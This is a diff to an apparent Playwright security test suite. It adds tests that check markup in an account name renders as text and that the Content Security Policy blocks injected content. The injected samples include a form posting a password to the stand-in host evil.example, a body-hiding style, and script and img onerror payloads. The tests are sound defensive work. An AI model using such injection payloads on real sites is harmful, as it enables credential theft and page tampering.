@@ -12,6 +12,19 @@ test.describe("an account whose name is markup", () => {
 
   test.beforeEach(({ server }) => server.addAccount(MARKUP, password));
 
+  test("is text in toasts, and wherever else it stands", async ({ visitor, page }) => {
+    await visitor.open("/login");
+    await visitor.signIn(MARKUP, password);
+    await expect(visitor.toast(`Welcome back, ${MARKUP}.`)).toBeVisible();
+    await expect(page.locator(".menu__account")).toHaveText(MARKUP);
+    for (const path of ["/", "/account/sessions", "/account/activity", "/account/password", "/nowhere"]) {
+      await page.goto(visitor.server.origin + path);
+      await visitor.live();
+      await expect(page.locator(".menu__account")).toHaveText(MARKUP);
+      await expect(page.locator("main img, header img, .toasts img")).toHaveCount(0);
+    }
+    expect(await isHit(page)).toBe(false);
+  });
 
   test.describe("in another tab", () => {
     test("is text in what this one says of it", async ({ visitor, page, context, server }) => {
@@ -63,4 +76,41 @@ test.describe("what somebody put into a page", () => {
     <form id="form" action="https://evil.example/"><input name="password" value="secret"></form>
     <style>body { display: none }</style>`;
 
+  test("does not run, looks like nothing, and sends nothing anywhere", async ({ visitor, page, server, context }) => {
+    await visitor.open("/login");
+    await visitor.signIn();
+    const elsewhere: string[] = [];
+    context.on("request", (request) => {
+      if (!request.url().startsWith(server.origin) && !request.url().startsWith("data:")) elsewhere.push(request.url());
+    });
+    await page.route(`${server.origin}/`, async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace("</head>", `${INJECTED}</head>`);
+      await route.fulfill({ response, body });
+    });
+    await page.addInitScript(() => {
+      const held = new Set<string>();
+      Object.assign(window, { held });
+      document.addEventListener("securitypolicyviolation", (event) => held.add(event.effectiveDirective));
+    });
+    await page.goto(server.origin);
+    await page.evaluate(() => {
+      document.querySelector<HTMLElement>("#link")?.click();
+      document.querySelector<HTMLFormElement>("#form")?.submit();
+      const late = document.createElement("div");
+      late.innerHTML = "<img src='x:' onerror='window.hit = 10'>";
+      document.body.append(late);
+      const script = document.createElement("script");
+      script.textContent = "window.hit = 11";
+      document.body.append(script);
+    });
+    const held = () => page.evaluate(() => [...(window as unknown as { held: Set<string> }).held]);
+    for (const directive of ["script-src-elem", "script-src-attr", "form-action", "base-uri", "style-src-elem"]) {
+      await expect.poll(held, directive).toContain(directive);
+    }
+    expect(await isHit(page)).toBe(false);
+    expect(await page.evaluate(() => [document.baseURI, getComputedStyle(document.body).display])).toEqual([`${server.origin}/`, "block"]);
+    expect(elsewhere).toEqual([]);
+    expect(page.url()).toBe(`${server.origin}/`);
+  });
 });
